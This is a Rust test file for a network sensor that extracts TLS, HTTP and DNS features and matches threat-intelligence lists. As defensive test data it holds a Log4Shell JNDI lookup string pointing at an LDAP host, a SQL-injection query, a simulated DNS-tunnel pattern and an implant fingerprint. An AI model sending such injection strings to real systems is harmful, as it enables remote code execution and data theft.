//! Samples through the whole of it: parts of hellos, bodies of requests, any bytes, and more names than there is room for.

use super::dns::kind;
use super::dns::made::{question, response};
use super::*;
use crate::features::config::FeaturesConfig;
use crate::features::sketch::mix;
use crate::flow::SECOND;
use crate::score::random::Random;
use sensor_ebpf::flow::{FlowKey, proto, tcp};
use sensor_ebpf::parse::Packet;

const NOW: u64 = 1_000_000 * SECOND;

fn key(client: u32, port: u16, server_port: u16, proto: u8) -> FlowKey {
    let address = |value: u32| std::net::Ipv4Addr::from(value).to_ipv6_mapped().octets();
    FlowKey {
        addr_a: address(0x0a00_0000 | client),
        addr_b: address(0x0a01_0001),
        port_a: port,
        port_b: server_port,
        proto,
        ..FlowKey::ZERO
    }
}

fn packet(key: FlowKey, reverse: bool) -> Packet {
    Packet { key, reverse, tcp_flags: tcp::ACK, payload_at: 54, outer_at: 0, later_fragment: false }
}

struct Lab(App);

impl Lab {
    fn new() -> Lab {
        Lab(App::new(&FeaturesConfig::default()))
    }

    fn web(&mut self, payload: &[u8], reverse: bool, now: u64) -> AppFacts {
        self.tcp(80, payload, reverse, now)
    }

    fn tcp(&mut self, port: u16, payload: &[u8], reverse: bool, now: u64) -> AppFacts {
        let key = key(2, 40_000, port, proto::TCP);
        self.0.sample(&packet(key, reverse), payload, now, 1);
        self.0.facts(&key, now + SECOND)
    }
}

#[test]
fn flows_that_say_nothing_have_no_features() {
    let mut lab = Lab::new();
    for (port, payload) in
        [(80, &b""[..]), (22, b"SSH-2.0-OpenSSH"), (443, &[0; 6]), (443, b"\x17\x03\x03\x00\x20 data")]
    {
        assert_eq!(lab.tcp(port, payload, false, NOW).values(), [0.0; facts::VALUES], "{port}");
    }
    assert_eq!(lab.0.facts(&key(9, 9, 9, proto::UDP), NOW).values(), [0.0; facts::VALUES]);
}

#[test]
fn a_hello_in_two_segments_is_put_together() {
    let whole = tls::made::hello(Some(b"www.example.com"));
    let (mut lab, mut parts) = (Lab::new(), Lab::new());
    let expected = lab.tcp(443, &whole, false, NOW);
    assert!(expected.ja4.is_some() && expected.sni_hash.is_some() && !expected.tls.no_hello);
    assert_eq!((expected.protocol, expected.tls.version), (Protocol::Tls, 0x304));
    let first = parts.tcp(443, &whole[..150], false, NOW);
    assert_eq!((first.protocol, first.ja4), (Protocol::Tls, None));
    // What the other side says in between does not come between.
    parts.tcp(443, b"an early answer", true, NOW);
    let found = parts.tcp(443, &whole[150..], false, NOW);
    assert_eq!((found.ja4, found.sni_hash, found.text), (expected.ja4, expected.sni_hash, expected.text));
}

#[test]
fn port_443_without_a_hello_is_told() {
    let mut lab = Lab::new();
    assert!(lab.tcp(443, b"SSH-2.0-OpenSSH_9.6\r\n", false, NOW).tls.no_hello);
    let key = key(2, 40_000, 443, proto::TCP);
    let begins = Packet { tcp_flags: tcp::SYN, ..packet(key, false) };
    lab.0.sample(&begins, b"", NOW, 1);
    assert!(!lab.0.facts(&key, NOW).tls.no_hello, "the ports were used again");
}

#[test]
fn requests_show_for_seconds_and_answers_for_a_minute() {
    let mut lab = Lab::new();
    let facts = lab.web(b"GET /a/b.php?x=1&y=2 HTTP/1.1\r\nUser-Agent: x\r\n\r\n", false, NOW);
    assert_eq!(facts.protocol, Protocol::Http);
    assert_eq!((facts.http.path_length, facts.http.parameters, facts.http.markers), (16.0, 2.0, 0.0));
    assert!(facts.agent_hash.is_some());
    let facts = lab.web(b"HTTP/1.1 404 Not Found\r\n\r\n", true, NOW + SECOND);
    assert!(facts.http.errors > 0.99 && facts.http.client_errors > 0.9);
    let key = key(2, 40_000, 80, proto::TCP);
    let later = lab.0.facts(&key, NOW + 30 * SECOND);
    assert!(later.http.path_length == 0.0 && (0.4..0.9).contains(&later.http.client_errors));
}

#[test]
fn marks_in_a_later_segment_of_a_body_count_and_end() {
    let mut lab = Lab::new();
    let clean = lab.web(b"POST /login HTTP/1.1\r\nContent-Length: 99\r\n\r\n", false, NOW);
    assert_eq!(clean.http.marker, None);
    let facts = lab.web(b"user=${jndi:ldap://198.51.100.7/a}", false, NOW + SECOND);
    assert_eq!(facts.http.marker, Some(markers::Kind::Lookup));
    assert_eq!(facts.text.to_string(), "/login");
    lab.web(b"GET /next HTTP/1.1\r\n\r\n", false, NOW + 3 * SECOND);
    let facts = lab.web(b"GET /last HTTP/1.1\r\n\r\n", false, NOW + 6 * SECOND);
    assert_eq!((facts.http.marker, facts.text.to_string().as_str()), (None, "/last"));
    // An answer that tells of an attack is none.
    assert_eq!(
        lab.web(b"${jndi:ldap://198.51.100.7/a} was blocked", true, NOW + 9 * SECOND).http.marker,
        None
    );
}

#[test]
fn dns_over_tcp_counts_too() {
    let mut lab = Lab::new();
    let message = question(b"abc.example.com", kind::TXT);
    let facts = lab.tcp(53, &[&(message.len() as u16).to_be_bytes()[..], &message].concat(), false, NOW);
    assert_eq!((facts.protocol, facts.text.as_bytes()), (Protocol::Dns, &b"example.com"[..]));
    assert!(facts.dns.queries > 0.9 && facts.dns.unusual_types > 0.9);
}

#[test]
fn samples_stand_for_the_packets_they_were_drawn_from() {
    let mut lab = Lab::new();
    let mut random = Random::new(3);
    let key = key(2, 5353, 53, proto::UDP);
    // 3000 names a minute on one flow, of which one packet in 64 is a sample.
    for n in 0..6000u64 {
        let name = format!("{:016x}.example.com", mix(1, n));
        let now = NOW + n * SECOND / 50;
        let answer = response(name.as_bytes(), kind::TXT, &[(kind::TXT, &mix(2, n).to_be_bytes())]);
        for (payload, reverse) in [(question(name.as_bytes(), kind::TXT), false), (answer, true)] {
            if random.below(64) == 0 {
                lab.0.sample(&packet(key, reverse), &payload, now, 64);
            }
        }
    }
    let facts = lab.0.facts(&key, NOW + 120 * SECOND).dns;
    // Two minutes in, 86 % of what a steady rate adds up to; some 80 samples say so.
    let expected = 3000.0 * 0.86;
    assert!((facts.new_names / expected - 1.0).abs() < 0.4, "{facts:?}");
    assert!((facts.queries / expected - 1.0).abs() < 0.4 && facts.novelty > 0.8, "{facts:?}");
}

#[test]
fn a_million_peers_and_names_take_no_more_room_than_there_is() {
    let config = FeaturesConfig { max_domains: 10_000, max_app_flows: 500, ..FeaturesConfig::default() };
    let mut app = App::new(&config);
    let tunnel = key(0xff_ffff, 999, 53, proto::UDP);
    for n in 0..1_000_000u32 {
        // Ten minutes.
        let now = NOW + u64::from(n) * 600_000;
        let name = format!("{n}.d{}.com", mix(3, u64::from(n)));
        let flow = key(n & 0xf_ffff, (n >> 4) as u16 | 1, 53, proto::UDP);
        app.sample(&packet(flow, false), &question(name.as_bytes(), kind::A), now, 1);
        if n % 400 == 0 {
            let name = format!("{:032x}.example.com", mix(4, u64::from(n)));
            app.sample(&packet(tunnel, false), &question(name.as_bytes(), kind::TXT), now, 1);
        }
    }
    let counts = app.counts();
    assert_eq!((counts.domains, counts.flows), (10_000, 500));
    // Every peer took the place of others: for its domain, for itself, and for its flow.
    assert!(counts.overflow > 2_900_000, "{counts:?}");
    // What is used stays: four names a second.
    let message = question(b"last.example.com", kind::TXT);
    app.sample(&packet(tunnel, false), &message, NOW + 600 * SECOND, 1);
    let facts = app.facts(&tunnel, NOW + 600 * SECOND).dns;
    assert!((facts.new_names / 250.0 - 1.0).abs() < 0.15, "{facts:?}");
    app.forget(NOW + 7200 * SECOND);
    app.forget(NOW + 7200 * SECOND);
    app.forget(NOW + 7200 * SECOND);
    assert_eq!(app.counts().domains, 0);
}

/// Payloads of each kind, to be damaged.
fn payloads() -> Vec<(u16, u8, Vec<u8>)> {
    let answer =
        response(b"abc.example.com", kind::TXT, &[(kind::TXT, b"\x05hello"), (kind::CNAME, b"\xc0\x0c")]);
    let hello = tls::made::hello(Some(b"www.example.com"));
    vec![
        (53, proto::UDP, question(b"abc.def.example.co.uk", kind::NULL)),
        (53, proto::UDP, answer.clone()),
        (53, proto::TCP, [&(answer.len() as u16).to_be_bytes()[..], &answer].concat()),
        (443, proto::TCP, hello.clone()),
        (443, proto::TCP, hello[..200].to_vec()),
        (
            80,
            proto::TCP,
            b"GET /a?b=1%27%20or%201=1 HTTP/1.1\r\nUser-Agent: x\r\nHost: y\r\n\r\nbody".to_vec(),
        ),
        (80, proto::TCP, b"HTTP/1.1 500 Oops\r\n\r\n".to_vec()),
    ]
}

fn damage(random: &mut Random, bytes: &mut Vec<u8>) {
    for _ in 0..=random.below(6) {
        let at = random.below(bytes.len().max(1));
        match random.below(5) {
            0 => bytes.truncate(at),
            1 => bytes.insert(at.min(bytes.len()), random.bits() as u8),
            2 => bytes.extend_from_within(at.min(bytes.len())..),
            _ => {
                let edges = [0, 0xff, 0xc0, 0x3f, b'%', b' ', random.bits() as u8];
                if let Some(byte) = bytes.get_mut(at) {
                    *byte = edges[random.below(edges.len())];
                }
            }
        }
        bytes.truncate(4096);
    }
}

#[test]
fn any_bytes_are_taken() {
    let mut app =
        App::new(&FeaturesConfig { max_domains: 64, max_app_flows: 64, ..FeaturesConfig::default() });
    let mut random = Random::new(0xf022);
    let payloads = payloads();
    for n in 0..200_000u64 {
        let (port, proto, payload) = &payloads[random.below(payloads.len())];
        let mut payload = payload.clone();
        damage(&mut random, &mut payload);
        let flow = key(random.below(20) as u32, 1000 + random.below(3) as u16, *port, *proto);
        let now = NOW + n * SECOND / 1000;
        app.sample(&packet(flow, random.below(2) == 0), &payload, now, 1 << random.below(32));
        let facts = app.facts(&flow, now + SECOND);
        assert!(facts.values().iter().all(|value| value.is_finite() && *value >= 0.0), "{facts:?}");
        assert!(facts.text.to_string().bytes().all(|byte| (b' '..=b'~').contains(&byte)));
    }
}

/// Nanoseconds of the CPU that this thread took.
fn busy() -> u64 {
    let time = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    time.tv_sec as u64 * SECOND + time.tv_nsec as u64
}

/// Printed by `cargo test -p sensor --lib features::app::tests::cost -- --ignored --nocapture`.
#[test]
#[ignore = "a measurement: it prints the cost of a sample"]
fn cost() {
    for (port, proto, payload) in payloads() {
        let mut app = App::new(&FeaturesConfig::default());
        let rounds = 200_000u32;
        let begin = busy();
        for n in 0..rounds {
            let flow = key(n & 0xff, 1000 + (n >> 8 & 0xff) as u16, port, proto);
            app.sample(&packet(flow, false), &payload, NOW + u64::from(n) * 1000, 1);
        }
        let each = (busy() - begin) as f64 / f64::from(rounds);
        println!(
            "port {port:>3} {:>4} bytes {:8.0} ns  {}",
            payload.len(),
            each,
            payload[..16.min(payload.len())].escape_ascii()
        );
    }
}

#[test]
fn listed_names_and_clients_are_told_of_where_they_are_said() {
    use crate::intel::IntelConfig;
    use crate::intel::tests::{feed, set};
    let hello = tls::made::hello(Some(b"cdn.Evil.example"));
    let text = "evil.example # malware\nt13d1516h2_8daaf6152771_e5627efa2ab1 # an implant's client\n";
    let mut lab = Lab::new();
    lab.0.lists(std::sync::Arc::new(set(&IntelConfig::default(), &[(feed("ours"), text)])));
    lab.tcp(443, &hello, false, NOW);
    lab.web(b"GET / HTTP/1.1\r\nHost: evil.example:8080\r\n\r\n", false, NOW);
    lab.web(b"GET / HTTP/1.1\r\nHost: devil.example\r\n\r\n", false, NOW);
    let query = question(b"a.b.evil.example", kind::A);
    let asks = key(2, 40_000, 53, proto::UDP);
    lab.0.sample(&packet(asks, false), &query, NOW, 1);
    let said: Vec<_> = lab.0.take_hits().into_iter().map(|hit| (hit.hit.kind, hit.name, hit.ports)).collect();
    assert_eq!(
        said,
        [
            ("ja4", None, [40_000, 443]),
            ("domain", Some("cdn.Evil.example".to_owned()), [40_000, 443]),
            ("domain", Some("evil.example".to_owned()), [40_000, 80]),
            ("domain", Some("a.b.evil.example".to_owned()), [40_000, 53]),
        ]
    );
    assert!(lab.0.take_hits().is_empty(), "each is told once");
}
